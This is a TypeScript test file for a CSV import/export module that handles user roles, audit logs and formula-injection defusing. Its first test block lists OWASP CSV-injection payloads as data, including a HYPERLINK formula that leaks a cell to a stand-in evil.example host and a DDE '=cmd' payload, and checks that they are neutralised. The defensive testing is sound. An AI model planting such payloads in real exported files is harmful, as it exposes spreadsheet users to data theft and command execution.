import { describe, expect, it } from 'vitest';
import { type AuditEntry, timestampAt } from '../core/index.ts';
import { appRoles } from '../testing/app-roles.ts';
import {
  auditRecord,
  defuseCell,
  guessMapping,
  personRecord,
  readCell,
  readChanges,
  readCsv,
  resultRecord,
  writeCsv,
} from './index.ts';

describe('a cell that a spreadsheet would run as a formula', () => {
  // OWASP, "CSV Injection": the characters that begin one, and its examples.
  it.each([
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(1+1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(1)',
    '  =1+1',
    '=1+2";=1+2',
    '=1+2\'" ;,=1+2',
    '=HYPERLINK("https://evil.example?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "'=1+1",
    "''@x",
  ])('%j begins with an apostrophe, and comes back as it was', (text) => {
    expect(defuseCell(text)).toBe(`'${text}`);
    expect(readCell(defuseCell(text))).toBe(text);
  });

  it.each([
    'Ada',
    "O'Brien",
    "'quoted'",
    'a=b',
    'ada@example.com',
    '2027-01-31',
    '',
    '名前',
    'אדה',
  ])('%j is left as it is', (text) => {
    expect(defuseCell(text)).toBe(text);
    expect(readCell(text)).toBe(text);
  });

  it('stays in its own cell, whatever quotes and separators it has', () => {
    const name = '=1+2",=3+4;\n=5+6\t=7';
    const { rows, columns } = readCsv(writeCsv([{ uid: '-Nx', name }]));
    expect(columns).toEqual(['uid', 'name']);
    expect(rows.map(({ cells }) => cells)).toEqual([{ uid: '-Nx', name }]);
    expect(writeCsv([{ name }])).toContain('"\'=1+2"",=3+4;');
  });
});

describe('a file that is read', () => {
  it.each([',', ';', '\t'])(
    'may be separated by %j, with a byte order mark and blank lines',
    (by) => {
      const text = ['\uFEFFemail,role', '', 'ada@example.com,editor', ',', ''].join('\r\n');
      expect(readCsv(text.replaceAll(',', by))).toEqual({
        columns: ['email', 'role'],
        rows: [{ line: 3, cells: { email: 'ada@example.com', role: 'editor' } }],
        problems: [],
      });
    },
  );

  it('has the lines that an editor shows, also behind a cell of several lines', () => {
    const { rows } = readCsv('uid,name\na,"Ada\nLovelace"\nb,Ben');
    expect(rows.map(({ line }) => line)).toEqual([2, 4]);
  });

  it('names the lines that cannot be read, and goes on', () => {
    const { rows, problems } = readCsv('uid,role,role\na,editor\nb,viewer,,too much\nc,viewer');
    expect(rows.map(({ cells }) => cells.uid)).toEqual(['a', 'c']);
    expect(problems).toMatchObject([
      { line: 1, column: 'role' },
      { line: 3, column: null },
    ]);
  });

  it('without anything in it has no columns', () => {
    expect(readCsv('')).toEqual({ columns: [], rows: [], problems: [] });
  });
});

describe('the changes in a file', () => {
  const changesIn = (text: string, mapping = guessMapping(readCsv(text).columns)) =>
    readChanges(appRoles, readCsv(text), mapping);

  it('recognises columns by their usual names', () => {
    const columns = ['Name', 'E-Mail', 'New role', 'Expires at', 'Disabled', 'User ID'];
    expect(guessMapping(columns)).toEqual({
      email: 'E-Mail',
      role: 'New role',
      expiresAt: 'Expires at',
      disabled: 'Disabled',
      uid: 'User ID',
    });
  });

  it('gives, ends and removes roles, and disables', () => {
    const text = `email,uid,role,ends,disabled
ada@example.com,,editor,2027-01-31,
,ben,viewer,2027-01-31T18:00+01:00,no
,cyd,-,2027-01-31,yes`;
    expect(changesIn(text)).toEqual({
      changes: [
        { email: 'ada@example.com', role: 'editor', expiresAt: Date.UTC(2027, 0, 31) },
        { uid: 'ben', role: 'viewer', expiresAt: Date.UTC(2027, 0, 31, 17), disabled: false },
        { uid: 'cyd', role: null, expiresAt: null, disabled: true },
      ],
      lines: [2, 3, 4],
      problems: [],
    });
  });

  it('names every problem with its line and column', () => {
    const text = `email,role,ends,disabled
ada,Editor,31.1.2027,maybe
,,,
ben@example.com,,,
,viewer,2027-02-30,
cyd@example.com,boss,,`;
    const { changes, problems } = changesIn(text);
    expect(changes).toEqual([]);
    expect(problems.map(({ line, column }) => [line, column])).toEqual([
      [2, 'email'],
      [2, 'role'],
      [2, 'ends'],
      [2, 'disabled'],
      [4, 'role'],
      [5, null],
      [5, 'ends'],
      [6, 'role'],
    ]);
    expect(problems[1]?.message).toBe('There is no role "Editor". Did you mean "editor"?');
  });

  it('asks for a column for the user and one for the change', () => {
    expect(changesIn('name,expires\nAda,2027-01-31').problems).toMatchObject([
      { line: 1, message: 'A column has to name the user: uid or email.' },
      { line: 1, message: 'A column has to say what changes: role or disabled.' },
      { line: 1, column: 'expires' },
    ]);
    expect(changesIn('uid\na', { uid: 'uid', role: 'rolle' }).problems).toEqual([
      { line: 1, column: 'rolle', message: 'There is no such column.' },
    ]);
  });

  it('takes 10,000 lines, and says of more that they are too many', () => {
    const text = `uid,role\n${Array.from({ length: 10_001 }, (_, n) => `p${n},viewer`).join('\n')}`;
    const { changes, lines, problems } = changesIn(text);
    expect(changes).toHaveLength(10_000);
    expect(lines.at(-1)).toBe(10_001);
    expect(problems).toMatchObject([{ line: 10_002 }]);
  });
});

describe('an export', () => {
  it('of people is read again as the same changes', () => {
    const end = Date.UTC(2027, 0, 31);
    const people = [
      {
        uid: '-Nx1',
        name: '=Ada',
        email: 'ada@example.com',
        role: 'editor',
        expiresAt: end,
        disabled: false,
      },
      { uid: 'ben', role: null, expiresAt: null, disabled: true },
    ];
    const file = readCsv(writeCsv(people.map(personRecord)));
    expect(readChanges(appRoles, file, guessMapping(file.columns)).changes).toEqual([
      { uid: '-Nx1', role: 'editor', expiresAt: end, disabled: false },
      { uid: 'ben', role: null, expiresAt: null, disabled: true },
    ]);
  });

  it('of the audit log has who, whom, before, after, why and what came of it', () => {
    const state = { role: null, disabled: false, expiresAt: null, sessionsRevokedAt: null };
    const entry: AuditEntry & { id: string } = {
      ...{ id: 'e1', at: timestampAt(1), type: 'token-claims-change', uid: 'ada', name: 'Ada' },
      ...{ email: null, before: state, after: { ...state, role: 'editor', expiresAt: 60 } },
      actor: { kind: 'person', uid: 'boss', name: 'Boss' },
      ...{ reason: '=why', outcome: 'applied', problem: null, version: 1, undoes: null },
      ...{ job: 'j1', startsJob: null, count: null, direct: false },
    };
    expect(auditRecord(entry)).toMatchObject({
      at: '1970-01-01T00:00:01.000Z',
      roleBefore: null,
      roleAfter: 'editor',
      expiresAtAfter: '1970-01-01T00:01:00.000Z',
      actorName: 'Boss',
      job: 'j1',
    });
    expect(writeCsv([auditRecord(entry)])).toContain(",'=why,");
    const settings = { lockdown: true, minimumAuthTime: null };
    expect(auditRecord({ ...entry, before: settings, after: settings }).roleAfter).toBeNull();
  });

  it('of results has the line of the file', () => {
    const each = { index: 0, uid: 'ada', name: null, email: null, role: 'viewer' };
    expect(resultRecord({ ...each, verdict: 'own-role', message: 'No.' }, 7)).toMatchObject({
      line: 7,
      uid: 'ada',
      verdict: 'own-role',
    });
  });
});
